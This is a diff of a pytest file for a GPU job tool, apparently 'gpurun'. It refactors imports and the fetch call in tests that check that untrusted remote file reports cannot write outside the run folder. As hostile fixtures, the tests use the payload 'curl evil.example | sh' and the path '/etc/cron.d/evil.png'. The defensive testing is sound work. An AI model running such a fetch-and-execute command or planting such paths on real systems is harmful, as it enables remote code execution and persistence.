@@ -10,14 +10,19 @@ from pathlib import Path
 
 import pytest
 
-from gpurun import onbox, untrusted
 from gpurun.errors import SyncError, UntrustedReportError
 from gpurun.events import LogLine, Step, parse_line
+from gpurun.job import untrusted
+from gpurun.job.context import RunContext
+from gpurun.job.follow import fetch
+from gpurun.job.machine import BoxLayout
+from gpurun.job.options import JobOptions
+from gpurun.job.record import RunRecord
 from gpurun.journal import Journal
 from gpurun.live import JsonView
+from gpurun.pricing.serial import estimate_from_dict
 from gpurun.remote.local import LocalTransport
 from gpurun.remote.sync import fetch_verified
-from gpurun.runctl import JobOptions, RunControl, RunState
 from tests.remote_helpers import ssh_session, transport_fixture  # noqa: F401  (the fixture)
 
 GOOD = ["lora.safetensors", "lora-000001.safetensors", "my lora (v2)-step00000040.safetensors", "grid.png",
@@ -61,15 +66,16 @@ def test_a_link_planted_in_the_run_folder_cannot_redirect_a_write(tmp_path: Path
 def box_run(tmp_path: Path):
     """A run whose "machine" is a folder here (LocalTransport), recorded in a journal, ready to fetch."""
     box = tmp_path / "box"
-    layout = onbox.BoxLayout(root=str(box / "gpurun" / "r1"), home=str(box / ".gpurun"))
+    layout = BoxLayout(root=str(box / "gpurun" / "r1"), home=str(box / ".gpurun"))
     Path(layout.out).mkdir(parents=True)
     journal = Journal.open(tmp_path / "journal.sqlite3")
     journal.record_intent(
         "r1", provider="local", offer_id="local", gpu="cpu", quoted_price=0.0, budget=None, workload={},
         estimate={}, output_dir=tmp_path / "laptop" / "runs" / "r1", config_toml="", label="gpurun-r1",
     )  # fmt: skip
-    state = RunState(run_id="r1", provider="local", output_dir=str(tmp_path / "laptop" / "runs" / "r1"))
-    control = RunControl(state, JsonView(stream=io.StringIO()), journal, JobOptions())
+    estimate = estimate_from_dict({"provider": "local", "offer_id": "local"})
+    record = RunRecord(run_id="r1", output_dir=tmp_path / "laptop" / "runs" / "r1", estimate=estimate)
+    control = RunContext(record, JsonView(stream=io.StringIO()), journal, JobOptions())
     control.transport, control.layout = LocalTransport(box), layout
     yield control, Path(layout.out), tmp_path / "laptop"
     journal.close()
@@ -89,7 +95,7 @@ async def test_an_event_naming_a_path_outside_the_run_writes_nothing_there(box_r
     control, box_out, laptop = box_run
     digest, size = _plant(box_out, name, b"curl evil.example | sh\n")
     with pytest.raises(UntrustedReportError):
-        await control.fetch(name, digest, size)
+        await fetch(control, name, digest, size)
     written = [p for p in laptop.rglob("*") if p.is_file()] if laptop.exists() else []
     assert written == [] and not (laptop / ".bashrc").exists()
 
@@ -98,10 +104,10 @@ async def test_a_listing_with_a_hostile_name_fails_the_fetch_and_the_good_files_
     control, box_out, laptop = box_run
     _plant(box_out, "lora.safetensors", b"weights")
     digest, size = _plant(box_out, "lora-000001.safetensors", b"epoch one")
-    await control.fetch("lora-000001.safetensors", digest, size)
+    await fetch(control, "lora-000001.safetensors", digest, size)
     assert (Path(control.out_dir) / "lora-000001.safetensors").read_bytes() == b"epoch one"
     with pytest.raises(UntrustedReportError):
-        await control.fetch("/etc/cron.d/evil.png", digest, size)
+        await fetch(control, "/etc/cron.d/evil.png", digest, size)
     assert sorted(p.name for p in laptop.rglob("*") if p.is_file()) == ["lora-000001.safetensors"]
 
 
